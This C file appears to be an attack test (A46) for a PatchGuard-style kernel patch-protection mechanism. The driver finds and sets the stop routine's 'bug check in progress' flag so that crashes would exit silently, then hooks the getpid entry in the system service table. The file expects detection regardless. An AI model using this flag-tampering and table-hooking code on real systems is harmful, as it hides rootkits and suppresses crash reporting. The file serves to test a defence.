/* attack_a46_stop_flag (A46): make the kernel's stop routine think it is
 * already stopping. Finds the "bug check in progress" counter in the code
 * of the exported stop routine (debug_routines.stop: its first RIP-relative
 * load, 8B 05 rel32) and sets it, so a stop would take the nested path:
 * no stop screen, no event, a silent exit. Then patches the service table
 * as attack_a1. Expected: 0x109 type 0xA with its stop screen and event
 * all the same (PatchGuard stops through its own path). */
#include "attack_pg.h"
#include <kpp/bugcheck.h>

static uint64_t hooked_getpid(uint64_t a1, uint64_t a2, uint64_t a3, uint64_t a4, uint64_t a5, uint64_t a6)
{
	return 4242;
}

status_t driver_entry(struct driver_object *drv)
{
	const uint8_t *p = (const uint8_t *)debug_routines.stop;
	volatile uint32_t *flag = NULL;
	for (int i = 0; i < 64 && !flag; i++)
		if (p[i] == 0x8B && p[i + 1] == 0x05) {
			int32_t rel;
			memcpy(&rel, p + i + 2, 4);
			flag = (volatile uint32_t *)(p + i + 6 + rel);
		}
	uint64_t *table = a_find_service_table();
	if (!flag || !table) {
		printk("attack_a46: stop flag or service table not found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	uint64_t hook = (uint64_t)&hooked_getpid;
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	*flag = 2;
	a_write_protected(&table[KPP_SYS_GET_PID], &hook, sizeof hook);
	printk("attack_a46: stop routine's in-progress flag set, service table patched\n");
	a_patched("attack_a46");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
